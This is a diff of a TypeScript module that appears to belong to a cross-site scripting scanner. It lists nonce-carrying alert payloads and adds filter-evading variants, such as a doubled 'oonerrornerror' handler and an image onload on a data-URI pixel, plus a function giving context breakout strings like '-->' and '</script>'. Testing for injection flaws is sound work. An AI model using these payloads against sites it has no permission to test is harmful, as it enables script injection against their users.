@@ -1,10 +1,15 @@
 import type { Reflection } from './reflection.ts';
 
 /** A value that makes a dialog with the trial's nonce when it is run, and what has to be clicked for that. */
-export type Payload = { value: string; clicks?: string[] };
+export type Payload = {
+  value: string;
+  clicks?: string[];
+  /** The page has the script loaded from elsewhere, so that its own text shows no call. */
+  isLoaded?: true;
+};
 
 /** Calls without quotes, since those are what is most often escaped: with parentheses, and without. */
-const call = 'alert(/‹nonce›/.source)';
+export const call = 'alert(/‹nonce›/.source)';
 const bareCall = 'alert`‹nonce›`';
 /** Filters that list words know the commonest calls. */
 const otherCall = 'confirm`‹nonce›`';
@@ -19,6 +24,8 @@ const inReferences = (code: string): string =>
     .map((part) => part.replace(/./gsu, (sign) => `&#${sign.codePointAt(0)};`))
     .join('‹nonce›');
 const upperCall = inReferences('alert(/‹nonce›/.source.toLowerCase())');
+
+const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
 
 /** Markup that runs by itself, each way past another habit of filters. */
 const markup: Payload[] = [
@@ -52,6 +59,8 @@ const markup: Payload[] = [
   { value: `<input autofocus onfocusin=${otherCall}>` },
   { value: `<b tabindex=1 autofocus onfocus=${call}>‹nonce›</b>` },
   { value: `<audio src onerror=${call}>` },
+  { value: `<img src=x oonerrornerror=${call}>` },
+  { value: `<img src=${pixel} onload=${call}>` },
   { value: `<iframe src=javascript:parent.${call}>` },
   { value: `<style>@keyframes k{}</style><b style=animation-name:k onanimationend=${call}>‹nonce›</b>` },
   {
@@ -80,6 +89,24 @@ export function payloadsFor(reflection: Reflection): Payload[] {
       return urlPayloads(reflection);
     case 'script':
       return [...scriptBreakouts(reflection.state), ...after('</script>', markup.slice(0, 3))];
+  }
+}
+
+/** What ends the place where a value stands, so that markup may follow; undefined where none can. */
+export function endOf(reflection: Reflection): string | undefined {
+  switch (reflection.kind) {
+    case 'markup':
+      return reflection.end;
+    case 'comment':
+      return '-->';
+    case 'attribute':
+      return `${reflection.quote}>`;
+    case 'tag':
+      return '>';
+    case 'script':
+      return '</script>';
+    default:
+      return undefined;
   }
 }
 
